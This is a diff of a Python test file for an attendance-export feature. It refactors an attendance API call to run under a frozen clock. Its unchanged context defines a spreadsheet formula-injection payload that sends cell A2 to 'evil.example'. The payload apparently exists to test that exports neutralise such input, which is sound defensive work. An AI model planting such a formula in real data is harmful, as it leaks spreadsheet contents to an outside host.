@@ -15,6 +15,7 @@ from tests.trio_helpers import trio
 from wijkwerk.accounts.services import create_api_token
 from wijkwerk.attendance.exports import spreadsheet_text
 from wijkwerk.registrations import approval
+from wijkwerk.timeutil import frozen_at
 from wijkwerk.werkplaatsen import services as trios
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'
@@ -69,7 +70,13 @@ def token(db):
 
 
 def mark_with_substitute(client, series, token) -> None:
-    response = client.put(
+    with frozen_at(series.sessions[0].starts_at):  # marked on the day
+        response = _put(client, series, token)
+    assert response.status_code == 200, response.json
+
+
+def _put(client, series, token):
+    return client.put(
         f"/api/v1/sessions/{series.sessions[0].id}/attendance",
         json={
             "records": [
@@ -82,7 +89,6 @@ def mark_with_substitute(client, series, token) -> None:
         },
         headers={"Authorization": f"Bearer {token}"},
     )
-    assert response.status_code == 200, response.json
 
 
 def csv_rows(response) -> list[list[str]]:
